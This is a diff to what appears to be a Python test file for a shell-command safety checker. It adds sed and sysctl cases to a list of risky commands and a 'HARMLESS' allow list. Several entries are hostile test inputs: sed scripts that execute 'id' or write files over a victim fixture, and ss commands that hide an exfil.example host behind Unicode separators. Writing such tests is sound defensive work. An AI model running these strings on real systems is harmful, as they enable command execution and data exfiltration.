@@ -171,6 +171,9 @@ def _others() -> list[str]:
         "journalctl -o verbose --output-fields=_AUDIT_FIELD_A2", "journalctl -o json --output-fields=AUDIT_FIELD_CMD",
         "journalctl OBJECT_CMDLINE=x",
         "journalctl --file /var/log/journal/*/system.journal", "sysctl vm.stat_refresh", "ls --indicator-style -- -R",
+        "sysctl vm", "sysctl -a", "sysctl -A", "sysctl -r stat -a", "sysctl -a -r 'ker.*'", "sysctl 'v*'",
+        "sysctl vm/", "sed 'ba;:a w {d}/new' {d}/victim.txt", "sed -n 'ba;:a e id' {d}/victim.txt",
+        "sed 'ba\nw {d}/new\n:a' {d}/victim.txt",
         "ss dst 10.0.0.1\u2028cgroup\u2028/c2VjcmV0.exfil.example",
         "ss dst '10.0.0.1\u2029cgroup /x.exfil.example'", "ss -tn 'dst 10.0.0.1\u3000x.exfil.example'", "ss fwmark x.exfil.example", "ss sport :a.b", "ss -tn state listen", "ss -tn '(dport = :443)'", "ss cgroup x.exfil.example",
         "findmnt --tree --poll", "findmnt --tree -Fcontainer_info.json", "findmnt -o -p",
@@ -246,7 +249,7 @@ HARMLESS = [
     "systemctl is-active nginx", "systemctl show -p ActiveState nginx", "systemctl", "systemctl cat nginx",
     "journalctl -u nginx -n 5 --no-pager", "journalctl -b -1 -n 20 -o json --output-fields=MESSAGE,PRIORITY",
     "journalctl _TRANSPORT=audit -n 5 -o json --output-fields=MESSAGE,_AUDIT_TYPE_NAME,_PID", "hostname -f", "date +%s",
-    "sysctl vm.swappiness", "ip -br a", "ip route get 127.0.0.1", "dmesg -T", "ss -tlnp", "mount",
+    "sysctl vm.swappiness", "sysctl -a -r kernel", "sysctl -aN", "ip -br a", "ip route get 127.0.0.1", "dmesg -T", "ss -tlnp", "mount",
     "cat /proc/loadavg", "cat /proc/meminfo", "cat /proc/self/status", "sort {d}/other.txt",
     "sed -n 1p {d}/victim.txt", "find {d} -name victim.txt", "grep -c original {d}/victim.txt",
 ]
